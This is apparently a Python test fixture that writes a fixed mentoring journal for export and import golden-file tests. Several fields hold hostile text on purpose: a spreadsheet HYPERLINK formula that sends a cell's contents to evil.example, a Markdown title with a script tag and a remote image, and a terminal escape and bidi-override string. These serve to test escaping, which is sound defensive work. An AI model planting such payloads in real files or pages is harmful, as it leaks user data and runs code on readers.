"""A fixed journal for the export and import tests: fixed ids, times and hostile text.

Written straight to the files with the Store (no random ids, no clock), so the golden
files in tests/golden/ stay byte for byte the same. Imported by name (tests/ is on
sys.path).
"""

from __future__ import annotations

import datetime as dt
from pathlib import Path

from mentee.models import (
    Action,
    AgendaItem,
    Dated,
    Feedback,
    Goal,
    Meeting,
    Mentor,
    Milestone,
    Note,
    Record,
    Retarget,
    Topic,
)
from mentee.store import Store

CET = dt.timezone(dt.timedelta(hours=1))
CREATED = dt.datetime(2026, 11, 1, 9, 0, tzinfo=dt.UTC)
UPDATED = dt.datetime(2026, 11, 2, 10, 30, tzinfo=dt.UTC)

# Text a spreadsheet would run, Markdown would render and a terminal would act on.
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
MARKDOWN_ATTACK = "# Give a talk <script>alert(1)</script> ![x](http://evil.example/x.png)"
TERMINAL_ATTACK = "Priya \x1b]0;pwned\x07N\u202eevil"


def fixed_records() -> list[Record]:
    """Every kind, with links between them, as a careful user's journal might hold."""
    stamps = {"created": CREATED, "updated": UPDATED}
    return [
        Goal(
            id="g-senior",
            title="Promoted to senior engineer",
            why="Own larger problems\nand grow others",
            baseline=FORMULA,
            success="Promotion approved, next cycle",
            start=dt.date(2026, 6, 1),
            target=dt.date(2027, 6, 30),
            mentors=["alex-kim"],
            tags=["career", "@risk"],
            milestones=[
                Milestone(
                    title="Write a design doc", due=dt.date(2026, 9, 30), done=dt.date(2026, 9, 28)
                ),
                Milestone(title="Lead the billing launch", due=dt.date(2026, 12, 15)),
            ],
            timeline=[
                Retarget(
                    date=dt.date(2026, 9, 1),
                    from_=dt.date(2027, 3, 31),
                    to=dt.date(2027, 6, 30),
                    reason="Re-org moved the cycle",
                )
            ],
            **stamps,
        ),
        Goal(
            id="g-talk",
            title=MARKDOWN_ATTACK,
            start=dt.date(2026, 8, 1),
            target=dt.date(2027, 1, 31),
            mentors=["priya"],
            **stamps,
        ),
        Mentor(
            id="alex-kim",
            name="Alex Kim",
            email="alex.kim@example.com",
            org="Northwind",
            role="Principal Engineer",
            channel="video",
            availability="Tuesdays, afternoons",
            timezone="Europe/Berlin",
            cadence_days=14,
            expertise=["system design", "promotion packets"],
            since=dt.date(2026, 6, 1),
            thanks=[Dated(date=dt.date(2026, 10, 12), text="Your outline got my doc approved.")],
            pronouns="they/them",
            **stamps,
        ),
        Mentor(
            id="priya",
            name=TERMINAL_ATTACK,
            channel="chat",
            notes="-1 reply a week; +1 for async",
            **stamps,
        ),
        Meeting(
            id="m-held",
            mentor="alex-kim",
            at=dt.datetime(2026, 11, 7, 15, 0, tzinfo=CET),
            duration=30,
            where="video call",
            status="held",
            agenda=[
                AgendaItem(
                    section="topics", kind="topic", id="t-old", text="Scope", decision="discussed"
                )
            ],
            notes="Reviewed the design doc.\n- next: scope the launch plan",
            advice=["Write down the decisions you drive"],
            actions=["a-draft"],
            **stamps,
        ),
        Meeting(
            id="m-next",
            mentor="alex-kim",
            at=dt.datetime(2026, 11, 24, 15, 0, tzinfo=CET),
            duration=45,
            where='Room "4", level 2; or video',
            **stamps,
        ),
        Meeting(
            id="m-off",
            mentor="priya",
            at=dt.datetime(2026, 11, 20, 16, 0, tzinfo=CET),
            status="cancelled",
            cancel_reason="Nothing new to discuss",
            **stamps,
        ),
        Action(
            id="a-draft",
            title="-1 day slip: +draft the launch plan",
            due=dt.date(2026, 11, 18),
            goal="g-senior",
            mentor="alex-kim",
            meeting="m-held",
            notes=[Dated(date=dt.date(2026, 11, 10), text="@channel asked for a first cut")],
            **stamps,
        ),
        Action(
            id="a-promise",
            title="Introduce me to the staff engineer",
            owner="mentor",
            due=dt.date(2026, 11, 26),
            mentor="alex-kim",
            meeting="m-held",
            **stamps,
        ),
        Action(
            id="a-dry-run",
            title="Dry run\tat the team demo",
            kind="practice",
            due=dt.date(2026, 11, 30),
            goal="g-talk",
            **stamps,
        ),
        Action(id="a-someday", title="Read the staff engineer book", **stamps),
        Action(
            id="a-done",
            title="Share design docs two days ahead",
            status="done",
            done=dt.date(2026, 11, 13),
            due=dt.date(2026, 11, 14),
            goal="g-senior",
            feedback="f-ahead",
            **stamps,
        ),
        Action(id="a-dropped", title="Outline a blog post", status="dropped", **stamps),
        Feedback(
            id="f-ahead",
            date=dt.date(2026, 10, 12),
            source="manager",
            kind="constructive",
            text="Share the doc two days ahead.",
            goals=["g-senior"],
            **stamps,
        ),
        Feedback(
            id="f-secret",
            date=dt.date(2026, 11, 16),
            source="peer review",
            kind="constructive",
            text="Summarise decisions out loud.",
            goals=["g-senior"],
            private=True,
            **stamps,
        ),
        Note(
            id="n-win",
            date=dt.date(2026, 11, 15),
            kind="win",
            text="Design doc approved without a second round",
            goal="g-senior",
            **stamps,
        ),
        Note(
            id="n-doubt",
            date=dt.date(2026, 11, 17),
            kind="challenge",
            text="1. Scope keeps growing\r\n2. hard to say no",
            goal="g-senior",
            private=True,
            **stamps,
        ),
        Topic(
            id="t-scope",
            text="+ how to push back on scope creep",
            mentor="alex-kim",
            goal="g-senior",
            **stamps,
        ),
        Topic(id="t-lead", text="Ask for a team-lead trial?", private=True, **stamps),
    ]


def build_fixed_journal(home: Path) -> Store:
    """Write the fixed journal into `home` (records as given, timestamps kept)."""
    store = Store(home, home.parent / f".{home.name}.test.lock")
    for record in fixed_records():
        store.put(record)
    return store
